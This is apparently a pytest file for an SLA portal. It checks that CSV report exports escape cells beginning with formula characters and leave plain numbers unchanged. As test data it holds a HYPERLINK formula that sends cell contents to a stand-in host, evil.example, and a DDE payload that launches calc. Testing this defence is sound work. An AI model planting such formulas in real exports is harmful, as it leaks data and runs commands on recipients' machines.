"""CSV exports do not carry formulas: text starting with =, +, -, @, a tab or a carriage
return is prefixed with ' (OWASP), while plain numbers, negative ones included, stay numbers.
Proven on the report CSV, as downloaded from the page and the API and as attached to the
email, with a root-cause note =HYPERLINK(…)."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest

from monitoring.evaluation.actions import breach_root_cause_set
from monitoring.models import Breach
from reporting.services.rendering import report_csv_bytes
from sla_portal.core.csvsafe import SafeDictWriter, SafeWriter, safe_cell
from tests.test_report_review import november  # noqa: F401  (fixture)

ATTACK = '=HYPERLINK("https://evil.example/?leak="&A1, "Details")'


@pytest.mark.parametrize(
    ("cell", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("- a dash list", "'- a dash list"),
        # Plain numbers stay numbers, with their sign.
        ("-12.5", "-12.5"),
        ("+3", "+3"),
        ("-1e3", "-1e3"),
        ("-.5", "-.5"),
        (-7, -7),
        (Decimal("-2400.00"), Decimal("-2400.00")),
        # Ordinary text is untouched, formula characters inside it too.
        ("Storage failure = disk", "Storage failure = disk"),
        ("", ""),
        (None, None),
    ],
)
def test_cells_that_start_a_formula_are_escaped_and_numbers_are_not(cell, written):
    assert safe_cell(cell) == written


def test_both_writers_escape_every_cell():
    out = io.StringIO()
    SafeWriter(out).writerow(["=A1", "-4", "ok"])
    writer = SafeDictWriter(out, fieldnames=["a", "b"])
    writer.writerow({"a": "@x", "b": "-4.5"})
    assert out.getvalue().splitlines() == ["'=A1,-4,ok", "'@x,-4.5"]


def _breach_note(text: str) -> str:
    rows = list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))
    return next(row for row in rows if row["section"] == "breach")["note"]


@pytest.mark.django_db
def test_a_formula_in_a_root_cause_is_text_in_every_report_csv(
    client,
    november,  # noqa: F811
    alice_manager,
):
    breach = Breach.objects.get(period_result__metric="availability")
    breach_root_cause_set(breach, alice_manager, ATTACK)
    client.force_login(alice_manager)

    page = client.get(f"/reports/{november.pk}/csv/").content.decode("utf-8")
    api = client.get(f"/api/reports/{november.pk}/csv/", HTTP_ACCEPT="text/csv")
    november.refresh_from_db()
    attachment = report_csv_bytes(november).decode("utf-8")

    for text in (page, api.content.decode("utf-8"), attachment):
        assert _breach_note(text) == "'" + ATTACK
    # The value columns are still plain numbers.
    target = next(
        row
        for row in csv.DictReader(io.StringIO(page.lstrip("\ufeff")))
        if row["section"] == "target" and row["value"]
    )
    assert Decimal(target["value"]) > 0
